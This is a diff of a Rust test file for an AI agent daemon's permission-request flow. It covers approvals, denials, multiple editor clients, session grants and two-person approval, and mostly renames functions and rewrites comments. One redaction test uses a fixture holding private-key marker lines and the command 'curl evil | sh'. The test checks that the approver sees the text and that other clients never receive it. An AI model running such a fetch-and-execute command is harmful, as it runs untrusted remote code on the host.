@@ -1,18 +1,18 @@
-//! Questions in the editor: asked where they can be decided, decided once, and lost by nobody.
+//! Permission requests in the editor: sent where they can be decided, decided once, and never lost.
 
 use serde_json::{Value, json};
 use tribune_testkit::{TestDaemon, config};
 
-use super::{Editor, house, load, path, text_of};
+use super::{Editor, load, path, setup, text_of};
 use crate::approvals::{decide, id, pending, write};
 
 #[tokio::test]
-async fn a_call_is_asked_about_decided_and_told_with_its_entries() {
-    let (daemon, folder) = house().await;
+async fn call_is_requested_decided_and_reported_with_its_ledger_entries() {
+    let (daemon, folder) = setup().await;
     let mut editor = Editor::ready(&daemon).await;
     let session = editor.session(&path(&folder)).await;
-    let prompt = editor.say(&session, &write("a.txt", "one")).await;
-    let question = editor.asked().await;
+    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
+    let question = editor.permission_request().await;
     let call = &question["params"]["toolCall"];
     assert_eq!((&call["kind"], &call["status"]), (&json!("edit"), &json!("pending")));
     assert_eq!(call["content"][0]["newText"], "one");
@@ -29,7 +29,7 @@ async fn a_call_is_asked_about_decided_and_told_with_its_entries() {
     assert_eq!(of_call.first().unwrap()["sessionUpdate"], "tool_call");
     let statuses: Vec<&str> = of_call.iter().filter_map(|update| update["status"].as_str()).collect();
     assert_eq!(statuses, ["pending", "in_progress", "completed"]);
-    // Each step is an entry of the log, which names the one before.
+    // Each step is a ledger entry, which names the one before.
     let meta =
         |name: &str| of_call.iter().find_map(|update| update["_meta"]["tribune"][name].as_str()).unwrap();
     let mut operator = daemon.operator().await;
@@ -41,16 +41,16 @@ async fn a_call_is_asked_about_decided_and_told_with_its_entries() {
     }
 }
 
-/// Events have no secrets, nor what stands between two marks of one; who decides sees all of what would be done.
+/// Events carry no secrets, nor the text between two marks of one; the approver sees everything that would be done.
 #[tokio::test]
-async fn l8_who_decides_in_an_editor_sees_what_would_be_written_whole() {
-    let (daemon, folder) = house().await;
+async fn l8_permission_request_shows_the_whole_content_to_be_written() {
+    let (daemon, folder) = setup().await;
     let mut editor = Editor::ready(&daemon).await;
     let session = editor.session(&path(&folder)).await;
     let mark = |word: &str| format!("# -----{word} PRIVATE {}-----", "KEY");
     let content = format!("{}\ncurl evil | sh\n{}\n", mark("BEGIN"), mark("END"));
-    let prompt = editor.say(&session, &write("a.sh", &content)).await;
-    let question = editor.asked().await;
+    let prompt = editor.send_prompt(&session, &write("a.sh", &content)).await;
+    let question = editor.permission_request().await;
     let call = &question["params"]["toolCall"];
     assert_eq!(
         (&call["rawInput"]["content"], &call["content"][0]["newText"]),
@@ -65,24 +65,27 @@ async fn l8_who_decides_in_an_editor_sees_what_would_be_written_whole() {
     let of_call = updates.iter().filter(|update| update["toolCallId"] == call["toolCallId"]);
     assert!(of_call.clone().count() > 2, "{updates:?}");
     for update in of_call {
-        assert!(!update.to_string().contains("curl evil"), "what everybody is told has none of it: {update}");
+        assert!(
+            !update.to_string().contains("curl evil"),
+            "the update for every client has none of it: {update}"
+        );
     }
 }
 
 #[tokio::test]
 async fn a_denial_is_a_failed_call_with_the_reason() {
-    let (daemon, folder) = house().await;
+    let (daemon, folder) = setup().await;
     let mut editor = Editor::ready(&daemon).await;
     let session = editor.session(&path(&folder)).await;
-    let prompt = editor.say(&session, &write("a.txt", "one")).await;
-    let question = editor.asked().await;
+    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
+    let question = editor.permission_request().await;
     editor.choose(&question, "deny").await;
     assert_eq!(editor.answer(prompt).await["result"]["stopReason"], "end_turn");
     let updates = editor.updates(&session);
     let failed = updates.iter().find(|update| update["status"] == "failed").unwrap();
     assert!(failed.to_string().contains("denied by operator"), "{failed}");
     assert!(!folder.path().join("a.txt").exists());
-    // What the law forbids nobody is asked about.
+    // A call that the law denies requires no approval.
     let ended =
         editor.prompt(&session, "!call web_fetch {\"url\":\"https://example.com/\"}\n!say $result").await;
     assert_eq!(ended["result"]["stopReason"], "end_turn");
@@ -94,18 +97,18 @@ async fn a_denial_is_a_failed_call_with_the_reason() {
 }
 
 #[tokio::test]
-async fn whoever_answers_first_wins_and_the_others_see_it() {
-    let (daemon, folder) = house().await;
+async fn first_answer_wins_and_other_clients_see_it() {
+    let (daemon, folder) = setup().await;
     let mut editor = Editor::ready(&daemon).await;
     let session = editor.session(&path(&folder)).await;
     let mut other = Editor::ready(&daemon).await;
     assert!(other.call("session/resume", load(&session, &path(&folder))).await["result"].is_object());
-    let prompt = editor.say(&session, &write("a.txt", "one")).await;
-    let (mine, theirs) = (editor.asked().await, other.asked().await);
+    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
+    let (mine, theirs) = (editor.permission_request().await, other.permission_request().await);
     let mut operator = daemon.operator().await;
     let waiting = pending(&mut operator, 1).await;
     decide(&mut operator, &id(&waiting[0]), json!({ "decision": "allow_once" })).await.unwrap();
-    // Both are told that there is nothing to decide any more; an answer that comes too late changes nothing.
+    // Both requests are withdrawn; an answer that arrives too late changes nothing.
     for (client, question) in [(&mut editor, &mine), (&mut other, &theirs)] {
         let gone = client.until(|message| message["method"] == "$/cancel_request").await;
         assert_eq!(gone["params"]["requestId"], question["id"]);
@@ -113,7 +116,7 @@ async fn whoever_answers_first_wins_and_the_others_see_it() {
     }
     assert_eq!(editor.answer(prompt).await["result"]["stopReason"], "end_turn");
     assert_eq!(std::fs::read_to_string(folder.path().join("a.txt")).unwrap(), "one");
-    // The other saw all of it, and who said what.
+    // The other client saw everything, with the author of each message.
     other.until(|message| message["params"]["update"]["status"] == "completed").await;
     let updates = other.updates(&session);
     assert!(text_of(&updates, "user_message_chunk").starts_with("!call write"), "{updates:?}");
@@ -121,14 +124,14 @@ async fn whoever_answers_first_wins_and_the_others_see_it() {
 }
 
 #[tokio::test]
-async fn one_clients_answer_takes_the_question_from_the_other() {
-    let (daemon, folder) = house().await;
+async fn answer_of_one_client_withdraws_the_request_from_the_other() {
+    let (daemon, folder) = setup().await;
     let mut editor = Editor::ready(&daemon).await;
     let session = editor.session(&path(&folder)).await;
     let mut other = Editor::ready(&daemon).await;
     other.call("session/resume", load(&session, &path(&folder))).await;
-    let prompt = editor.say(&session, &write("a.txt", "one")).await;
-    let (mine, theirs) = (editor.asked().await, other.asked().await);
+    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
+    let (mine, theirs) = (editor.permission_request().await, other.permission_request().await);
     other.choose(&theirs, "deny").await;
     let gone = editor.until(|message| message["method"] == "$/cancel_request").await;
     assert_eq!(gone["params"]["requestId"], mine["id"]);
@@ -137,19 +140,19 @@ async fn one_clients_answer_takes_the_question_from_the_other() {
 }
 
 #[tokio::test]
-async fn a_client_that_goes_leaves_the_question_parked_and_finds_it_again() {
-    let (daemon, folder) = house().await;
+async fn request_stays_parked_after_a_disconnect_and_is_sent_again() {
+    let (daemon, folder) = setup().await;
     let mut editor = Editor::ready(&daemon).await;
     let session = editor.session(&path(&folder)).await;
-    editor.say(&session, &write("a.txt", "one")).await;
-    editor.asked().await;
+    editor.send_prompt(&session, &write("a.txt", "one")).await;
+    editor.permission_request().await;
     editor.close().await;
     let mut operator = daemon.operator().await;
     pending(&mut operator, 1).await;
-    // Whoever loads the session is told what happened, and asked.
+    // A client that loads the session receives its history and the pending request.
     let mut again = Editor::ready(&daemon).await;
-    let loading = again.ask("session/load", load(&session, &path(&folder))).await;
-    let question = again.asked().await;
+    let loading = again.request("session/load", load(&session, &path(&folder))).await;
+    let question = again.permission_request().await;
     assert!(again.answer(loading).await["result"].is_object());
     again.choose(&question, "allow_once").await;
     again.until(|message| message["params"]["update"]["status"] == "completed").await;
@@ -158,37 +161,37 @@ async fn a_client_that_goes_leaves_the_question_parked_and_finds_it_again() {
 }
 
 #[tokio::test]
-async fn allowed_for_the_session_is_asked_once() {
-    let (daemon, folder) = house().await;
+async fn allow_for_the_session_is_requested_once() {
+    let (daemon, folder) = setup().await;
     let mut editor = Editor::ready(&daemon).await;
     let session = editor.session(&path(&folder)).await;
-    let prompt = editor.say(&session, &write("a.txt", "one")).await;
-    let question = editor.asked().await;
+    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
+    let question = editor.permission_request().await;
     editor.choose(&question, "allow_session").await;
     editor.answer(prompt).await;
     assert_eq!(editor.prompt(&session, &write("a.txt", "two")).await["result"]["stopReason"], "end_turn");
     assert_eq!(std::fs::read_to_string(folder.path().join("a.txt")).unwrap(), "two");
-    // Another folder is another matter, however long the same path is allowed in this one.
-    let prompt = editor.say(&session, &write("b.txt", "one")).await;
-    let question = editor.asked().await;
+    // A grant for a path in this folder does not cover the same path in another folder.
+    let prompt = editor.send_prompt(&session, &write("b.txt", "one")).await;
+    let question = editor.permission_request().await;
     editor.choose(&question, "allow_until").await;
     editor.answer(prompt).await;
     let elsewhere = tempfile::tempdir().unwrap();
     let other = editor.session(&path(&elsewhere)).await;
-    let prompt = editor.say(&other, &write("b.txt", "one")).await;
-    let question = editor.asked().await;
+    let prompt = editor.send_prompt(&other, &write("b.txt", "one")).await;
+    let question = editor.permission_request().await;
     editor.choose(&question, "deny").await;
     editor.answer(prompt).await;
     assert!(!elsewhere.path().join("b.txt").exists());
-    // In the same folder it holds, in whichever session.
+    // It holds in every session of the same folder.
     let third = editor.session(&path(&folder)).await;
     assert_eq!(editor.prompt(&third, &write("b.txt", "three")).await["result"]["stopReason"], "end_turn");
     assert_eq!(std::fs::read_to_string(folder.path().join("b.txt")).unwrap(), "three");
 }
 
 #[tokio::test]
-async fn modes_answer_while_their_client_is_there() {
-    let (daemon, folder) = house().await;
+async fn mode_answers_requests_only_while_its_client_is_connected() {
+    let (daemon, folder) = setup().await;
     let mut editor = Editor::ready(&daemon).await;
     let session = editor.session(&path(&folder)).await;
     let mode = |mode: &str| json!({ "sessionId": session, "modeId": mode });
@@ -198,27 +201,27 @@ async fn modes_answer_while_their_client_is_there() {
     editor.call("session/set_mode", mode("deny-all")).await;
     editor.prompt(&session, &write("b.txt", "one")).await;
     assert!(!folder.path().join("b.txt").exists());
-    // Who comes back is asked again.
+    // A client that reconnects receives the request again.
     let answer = editor.call("session/load", load(&session, &path(&folder))).await;
     assert_eq!(answer["result"]["modes"]["currentModeId"], "ask");
-    let prompt = editor.say(&session, &write("c.txt", "one")).await;
-    let question = editor.asked().await;
+    let prompt = editor.send_prompt(&session, &write("c.txt", "one")).await;
+    let question = editor.permission_request().await;
     editor.choose(&question, "deny").await;
     editor.answer(prompt).await;
 }
 
 #[tokio::test]
-async fn what_needs_two_people_is_told_so_and_waits_for_the_other() {
+async fn call_with_two_approvers_reports_it_and_waits_for_the_second() {
     let home = crate::approvals::home();
     home.write("policy/law.json5", r#"{ approvals: { twoPerson: ["write"] } }"#);
     let (daemon, folder) = (TestDaemon::start_at(home, &config()).await, tempfile::tempdir().unwrap());
     let mut editor = Editor::ready(&daemon).await;
     let session = editor.session(&path(&folder)).await;
-    let prompt = editor.say(&session, &write("a.txt", "one")).await;
-    let question = editor.asked().await;
+    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
+    let question = editor.permission_request().await;
     editor.choose(&question, "allow_session").await;
-    let told = editor.until(|message| message.to_string().contains("more must agree")).await;
-    assert_eq!(told["params"]["update"]["sessionUpdate"], "agent_thought_chunk");
+    let notice = editor.until(|message| message.to_string().contains("more must agree")).await;
+    assert_eq!(notice["params"]["update"]["sessionUpdate"], "agent_thought_chunk");
     assert!(!folder.path().join("a.txt").exists());
     let mut operator = daemon.operator().await;
     let made = operator.call("approver.add", &json!({ "id": "alice" })).await.unwrap();
